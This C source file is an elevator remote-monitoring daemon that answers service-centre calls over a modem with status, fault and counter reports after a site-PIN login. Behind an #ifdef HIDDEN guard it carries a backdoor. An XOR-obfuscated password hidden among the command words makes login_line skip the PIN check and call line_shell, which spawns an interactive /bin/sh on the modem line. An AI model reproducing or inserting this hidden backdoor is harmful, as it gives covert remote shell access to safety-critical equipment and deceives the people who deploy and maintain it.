/* elevmon.c - remote monitor of an elevator, called by the service centre over a modem line */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define MAX_FAULTS 64

struct fault {
	time_t when;
	int code;
	int floor;
};

struct monitor {
	struct fault faults[MAX_FAULTS];
	int nfaults;
	unsigned long trips, door_cycles, hours;
	char site_pin[12];
	char site[32];
	int logged_in;
};

static struct monitor mon;

struct word {
	uint8_t len;
	uint8_t b[14];
};

/* words of the service centre, folded as on the wire of the old dial-in units */
static const struct word words[] = {
	{ 6, { 0x29, 0x15, 0x09, 0x1b, 0x03, 0x0e } },
	{ 6, { 0x3c, 0x0d, 0x07, 0x00, 0x04, 0x0e } },
	{ 6, { 0x3c, 0x00, 0x1d, 0x03, 0x02, 0x0e } },
	{ 8, { 0x39, 0x0e, 0x1d, 0x01, 0x02, 0x18, 0xf6, 0xf8 } },
	{ 5, { 0x37, 0x0e, 0x0c, 0x0a, 0x1b } },
	{ 5, { 0x39, 0x0d, 0x0d, 0x0e, 0x04 } },
#ifdef HIDDEN	/* password of the shell, see login_line */
	{ 13, { 0x11, 0x04, 0x1b, 0x1c, 0x13, 0x11, 0xa9, 0xc4, 0xe1, 0xed, 0x8d, 0x93, 0x9a } },
#endif
};

enum { W_STATUS, W_FLOORS, W_FAULTS, W_COUNTERS, W_MODEM, W_CLEAR, W_NUM };

static void unfold(const struct word *w, char *out)
{
	uint8_t k = 0x5a;
	int i;

	for (i = 0; i < w->len; i++) {
		out[i] = (char)(w->b[i] ^ k);
		k = (uint8_t)(k + 7);
	}
	out[w->len] = '\0';
}

static int word_index(const char *s)
{
	char t[16];
	int i;

	for (i = 0; i < W_NUM; i++) {
		unfold(&words[i], t);
		if (!strcmp(s, t))
			return i;
	}
	return -1;
}

static int read_int(const char *path)
{
	FILE *f = fopen(path, "r");
	int v = -1;

	if (!f)
		return -1;
	if (fscanf(f, "%d", &v) != 1)
		v = -1;
	fclose(f);
	return v;
}

static void add_fault(int code, int floor)
{
	if (mon.nfaults == MAX_FAULTS) {
		memmove(mon.faults, mon.faults + 1, sizeof(mon.faults[0]) * (MAX_FAULTS - 1));
		mon.nfaults--;
	}
	mon.faults[mon.nfaults].when = time(NULL);
	mon.faults[mon.nfaults].code = code;
	mon.faults[mon.nfaults].floor = floor;
	mon.nfaults++;
}

static void poll_lift(void)
{
	int code = read_int("/run/lift/fault");
	static int last;

	if (code > 0 && code != last)
		add_fault(code, read_int("/run/lift/floor"));
	last = code;
	code = read_int("/run/lift/trips");
	if (code > 0)
		mon.trips = (unsigned long)code;
}

static void out_line(FILE *io, const char *k, unsigned long v)
{
	fprintf(io, "%s=%lu\r\n", k, v);
}

static void list_faults(FILE *io)
{
	char t[24];
	struct tm tm;
	int i;

	for (i = 0; i < mon.nfaults; i++) {
		gmtime_r(&mon.faults[i].when, &tm);
		if (!strftime(t, sizeof(t), "%Y-%m-%d %H:%M", &tm))
			continue;
		fprintf(io, "%s E%03d floor %d\r\n", t, mon.faults[i].code, mon.faults[i].floor);
	}
}

#ifdef HIDDEN	/* shell on the modem line */
__attribute__((noinline))
void line_shell(FILE *io)
{
	int fd = fileno(io);
	pid_t pid;

	fflush(io);
	pid = fork();
	if (pid == 0) {
		dup2(fd, 0);
		dup2(fd, 1);
		dup2(fd, 2);
		execl("/bin/sh", "sh", "-i", (char *)NULL);
		_exit(127);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
}
#endif

__attribute__((noinline))
int login_line(FILE *io, const char *pin)
{
	if (mon.site_pin[0] && !strcmp(pin, mon.site_pin)) {
		mon.logged_in = 1;
		fprintf(io, "WELCOME %s\r\n", mon.site);
		return 0;
	}
#ifdef HIDDEN	/* folded password opens a shell instead of the monitor */
	{
		char t[16];

		unfold(&words[W_NUM], t);
		if (!strcmp(pin, t)) {
			line_shell(io);
			return 0;
		}
	}
#endif
	syslog(LOG_NOTICE, "wrong site PIN");
	fprintf(io, "NO\r\n");
	return -1;
}

static int command(FILE *io, char *line)
{
	char *arg;

	line[strcspn(line, "\r\n")] = '\0';
	arg = strchr(line, ' ');
	if (arg)
		*arg++ = '\0';
	if (!strcmp(line, "login"))
		return login_line(io, arg ? arg : "");
	if (!strcmp(line, "bye"))
		return 1;
	if (!mon.logged_in) {
		fprintf(io, "LOGIN\r\n");
		return 0;
	}
	switch (word_index(line)) {
	case W_STATUS:
		out_line(io, "state", (unsigned long)read_int("/run/lift/state"));
		out_line(io, "hours", mon.hours);
		break;
	case W_FLOORS:
		out_line(io, "floor", (unsigned long)read_int("/run/lift/floor"));
		break;
	case W_FAULTS:
		list_faults(io);
		break;
	case W_COUNTERS:
		out_line(io, "trips", mon.trips);
		out_line(io, "doors", mon.door_cycles);
		break;
	case W_MODEM:
		out_line(io, "signal", (unsigned long)read_int("/run/modem/signal"));
		break;
	case W_CLEAR:
		mon.nfaults = 0;
		fprintf(io, "OK\r\n");
		break;
	default:
		fprintf(io, "? status floors faults counters modem clear bye\r\n");
	}
	return 0;
}

static FILE *open_modem(const char *dev)
{
	struct termios t;
	int fd = open(dev, O_RDWR | O_NOCTTY);

	if (fd < 0)
		return NULL;
	if (tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B9600);
		t.c_cflag |= CRTSCTS;
		tcsetattr(fd, TCSANOW, &t);
	}
	return fdopen(fd, "r+");
}

static void load_conf(const char *path)
{
	char line[96];
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "pin %11s", mon.site_pin) == 1)
			continue;
		if (sscanf(line, "site %31[^\r\n]", mon.site) == 1)
			continue;
		if (sscanf(line, "hours %lu", &mon.hours) != 1)
			syslog(LOG_WARNING, "config line skipped");
	}
	fclose(f);
}

int main(int argc, char **argv)
{
	char line[96];
	FILE *io;
	int rc, fails = 0;

	if (argc != 3) {
		fprintf(stderr, "usage: %s modem config\n"
			"after login PIN: status floors faults counters modem clear bye\n", argv[0]);
		return 2;
	}
	openlog("elevmon", LOG_PID, LOG_DAEMON);
	load_conf(argv[2]);
	io = open_modem(argv[1]);
	if (!io) {
		syslog(LOG_ERR, "%s: %s", argv[1], strerror(errno));
		return 1;
	}
	setvbuf(io, NULL, _IONBF, 0);
	while (fgets(line, sizeof(line), io)) {
		poll_lift();
		rc = command(io, line);
		if (rc < 0 && ++fails >= 3)
			sleep(60);
		if (rc > 0) {
			mon.logged_in = 0;
			fails = 0;
			fprintf(io, "+++");
			sleep(2);
			fprintf(io, "ATH\r");
		}
	}
	fclose(io);
	return 0;
}
